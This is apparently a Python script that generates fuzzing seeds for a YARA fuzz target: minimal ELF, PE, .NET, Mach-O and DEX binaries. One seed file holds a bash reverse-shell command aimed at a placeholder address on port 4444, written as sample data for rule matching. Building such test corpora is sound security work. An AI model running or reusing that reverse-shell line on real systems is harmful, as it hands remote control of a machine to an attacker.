#!/usr/bin/python3
"""Seeds of the fuzz target `yara`: small programs of every kind that a module reads, as a whole (first byte 0) and in blocks.
Usage: make_yara_seeds.py DIRECTORY"""
import pathlib
import struct
import sys
import zlib


def elf():
    """Sections, a symbol table, strings, a program header, a dynamic section."""
    names = b'\0.text\0.symtab\0.strtab\0.dynamic\0main\0'
    text, dynamic = b'\xc3' * 16, struct.pack('<QQQQ', 1, 1, 0, 0)
    symbols = bytes(24) + struct.pack('<IBBHQQ', names.index(b'main'), 0x12, 0, 1, 0x400000, 16)
    at, parts, body = {}, {'text': text, 'symbols': symbols, 'names': names, 'dynamic': dynamic}, b''
    for key, value in parts.items():
        at[key] = 64 + 56 + len(body)
        body += value
    sections = bytes(64)
    for name, kind, key, link, entry in ((b'.text', 1, 'text', 0, 0), (b'.symtab', 2, 'symbols', 3, 24),
                                         (b'.strtab', 3, 'names', 0, 0), (b'.dynamic', 6, 'dynamic', 3, 16)):
        sections += struct.pack('<IIQQQQIIQQ', names.index(name), kind, 2, 0x400000, at[key], len(parts[key]), link, 0, 1, entry)
    head = b'\x7fELF\2\1\1' + bytes(9) + struct.pack('<HHIQQQIHHHHHH', 2, 62, 1, 0x400000, 64, 120 + len(body), 0, 64, 56, 1,
                                                       64, 5, 3)
    program = struct.pack('<IIQQQQQQ', 1, 5, 0, 0x400000, 0x400000, 120 + len(body), 120 + len(body), 4096)
    return head + program + body + sections


def pe(clr=b'', wide=False):
    """One section that holds imports, exports, a resource with a version, and what .NET adds."""
    base, raw = 0x1000, 0x400
    section = bytearray(0x800)

    def put(at, data):
        section[at:at + len(data)] = data
    put(0x00, struct.pack('<IIIII', base + 0x40, 0, 0, base + 0x60, base + 0x40) + bytes(20))
    thunk = '<Q' if wide else '<I'
    put(0x40, struct.pack(thunk, base + 0x70) + struct.pack(thunk, (1 << (63 if wide else 31)) + 7) + bytes(8))
    put(0x60, b'a.dll\0')
    put(0x70, b'\0\0b\0')
    put(0x80, struct.pack('<IIHHIIIIIII', 0, 0, 0, 0, base + 0xb0, 1, 1, 1, base + 0xc0, base + 0xc4, base + 0xc8))
    put(0xb0, b'self.dll\0')
    put(0xc0, struct.pack('<IIH', base + 0x10, base + 0xd0, 0))
    put(0xd0, b'c\0')
    put(0x100, bytes(12) + struct.pack('<HHII', 0, 1, 16, 0x80000000 + 0x18))
    put(0x118, bytes(12) + struct.pack('<HHII', 0, 1, 1, 0x80000000 + 0x30))
    put(0x130, bytes(12) + struct.pack('<HHII', 0, 1, 0x409, 0x48))
    put(0x148, struct.pack('<IIII', base + 0x160, 0x100, 0, 0))
    version = struct.pack('<HHH', 0xe0, 52, 0) + 'VS_VERSION_INFO\0'.encode('utf-16-le') + bytes(2) + bytes(52)
    version += struct.pack('<HHH', 0x60, 0, 1) + 'StringFileInfo\0'.encode('utf-16-le')
    version += struct.pack('<HHH', 0x40, 0, 1) + '040904b0\0'.encode('utf-16-le')
    version += struct.pack('<HHH', 0x1c, 2, 1) + 'a\0'.encode('utf-16-le') + bytes(2) + 'b\0'.encode('utf-16-le')
    put(0x160, version)
    put(0x300, clr)
    directories = [(base + 0x80, 40), (base, 40), (base + 0x100, 0x160)] + [(0, 0)] * 11 + [(base + 0x300, 72 if clr else 0), (0, 0)]
    optional = struct.pack('<HBBIIIII', 0x20b if wide else 0x10b, 1, 0, 0x800, 0, 0, base + 0x10, base)
    optional += struct.pack('<QII', 0x400000, 0x1000, 0x200) if wide else struct.pack('<IIII', base, 0x400000, 0x1000, 0x200)
    optional += struct.pack('<HHHHHHIIIIHH', 4, 0, 0, 0, 4, 0, 0, 0x2000, raw, 0, 3, 0)
    optional += struct.pack('<QQQQ' if wide else '<IIII', 1, 1, 1, 1) + struct.pack('<II', 0, 16)
    optional += b''.join(struct.pack('<II', *d) for d in directories)
    rich = struct.pack('<IIIIII', 0x44616e53 ^ 5, 5, 5, 5, 0x00010203 ^ 5, 2 ^ 5) + b'Rich' + struct.pack('<I', 5)
    dos = b'MZ' + bytes(58) + struct.pack('<I', 0xa0) + bytes(0x40) + rich
    head = dos.ljust(0xa0, b'\0') + b'PE\0\0' + struct.pack('<HHIIIHH', 0x8664 if wide else 0x14c, 1, 1, 0, 0, len(optional), 0x2102)
    head += optional + b'.text\0\0\0' + struct.pack('<IIIIIIHHI', 0x800, base, 0x800, raw, 0, 0, 0, 0, 0x60000020)
    return head.ljust(raw, b'\0') + bytes(section) + b'overlay'


def dotnet():
    """A CLI header, its streams, and tables: a module, an assembly, a reference, a resource, a constant."""
    strings, users, blob = b'\0name\0ref\0', b'\0\x05a\0b\0\0', b'\0\x04abcd'
    tables = struct.pack('<IBBBBQQ', 0, 2, 0, 0, 1, 1 | 1 << 11 | 1 << 32 | 1 << 35 | 1 << 40, 0) + struct.pack('<IIIII', 1, 1, 1, 1, 1)
    tables += struct.pack('<HHHHH', 0, 1, 1, 0, 0) + struct.pack('<HHH', 14, 4, 1)
    tables += struct.pack('<IHHHHIHHH', 0x8004, 1, 0, 0, 0, 0, 0, 1, 0) + struct.pack('<HHHHIHHHH', 1, 0, 0, 0, 0, 0, 6, 0, 0)
    tables += struct.pack('<IIHH', 0, 1, 1, 0)
    parts = ((b'#~\0\0', tables), (b'#Strings\0\0\0\0', strings), (b'#US\0', users), (b'#GUID\0\0\0', bytes(range(16))),
             (b'#Blob\0\0\0', blob))
    head = b'BSJB' + struct.pack('<HHII', 1, 1, 0, 12) + b'v4.0.30319\0\0' + struct.pack('<HH', 0, len(parts))
    at = len(head) + sum(8 + len(n) for n, _ in parts)
    body = b''
    for name, data in parts:
        data = data.ljust(-(-len(data) // 4) * 4, b'\0')
        head += struct.pack('<II', at + len(body), len(data)) + name
        body += data
    meta = head + body
    return struct.pack('<IHHIIIIII', 72, 2, 5, 0x1300 + 72, len(meta), 1, 0x6000001, 0x1300 + 0x300, 16) + bytes(40) + meta


def macho():
    segment = struct.pack('<II16sQQQQIIII', 0x19, 72 + 80, b'__TEXT', 0, 4096, 0, 400, 7, 5, 1, 0)
    section = struct.pack('<16s16sQQIIIIIIII', b'__text', b'__TEXT', 0x1000, 16, 320, 0, 0, 0, 0, 0, 0, 0)
    entry = struct.pack('<IIQQ', 0x80000028, 24, 320, 0)
    thread = struct.pack('<IIII', 5, 16 + 168, 4, 42) + bytes(168)
    commands = segment + section + entry + thread
    return struct.pack('<IIIIIIII', 0xfeedfacf, 0x01000007, 3, 2, 3, len(commands), 0, 0) + commands + b'\xc3' * 64


def fat():
    inner = macho()
    return struct.pack('>IIIIIII', 0xcafebabe, 1, 0x01000007, 3, 64, len(inner), 2).ljust(64, b'\0') + inner


def dex():
    """Strings, a type, a prototype, a field, a method, a class with its data, and the map."""
    words = [b'La;', b'V', b'a', b'b']
    at = 0x70
    ids = [at, at + 16, at + 24, at + 36, at + 44, at + 52, at + 84]
    text, offsets = b'', []
    for w in words:
        offsets.append(ids[6] + len(text))
        text += bytes([len(w)]) + w + b'\0'
    data = ids[6] + len(text)
    members = bytes([1, 0, 1, 0, 0, 1, 0, 1, 0])
    body = struct.pack('<4I', *offsets) + struct.pack('<II', 0, 1) + struct.pack('<III', 1, 1, 0)
    body += struct.pack('<HHI', 0, 1, 2) + struct.pack('<HHI', 0, 0, 3) + struct.pack('<8I', 0, 1, 0xffffffff, 0, 0xffffffff, 0, data, 0)
    body += text + members
    where = at + len(body)
    body += struct.pack('<I', 3) + b''.join(struct.pack('<HHII', *r) for r in ((0, 0, 1, 0), (1, 0, 4, at), (0x2000, 0, 1, data)))
    head = struct.pack('<20I', 0, 0x12345678, 0, 0, where, 4, ids[0], 2, ids[1], 1, ids[2], 1, ids[3], 1, ids[4], 1, ids[5],
                       len(body) - (ids[6] - at), ids[6], 0)
    size = at + len(body)
    head = struct.pack('<II', size, at) + head[4:]
    rest = bytes(20) + head[:0x70 - 32]
    rest = rest.ljust(0x70 - 12, b'\0') + body
    return b'dex\n035\0' + struct.pack('<I', zlib.adler32(rest)) + rest


def main():
    out = pathlib.Path(sys.argv[1])
    out.mkdir(parents=True, exist_ok=True)
    seeds = {'elf': elf(), 'pe32': pe(), 'pe64': pe(wide=True), 'dotnet': pe(dotnet()), 'macho': macho(), 'fat': fat(), 'dex': dex()}
    for name, data in seeds.items():
        (out / name).write_bytes(b'\0' + data)
    (out / 'text').write_bytes(b'\1' + b'#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n' * 4)
    (out / 'blocks').write_bytes(b'\x90' + pe()[:9000])


main()
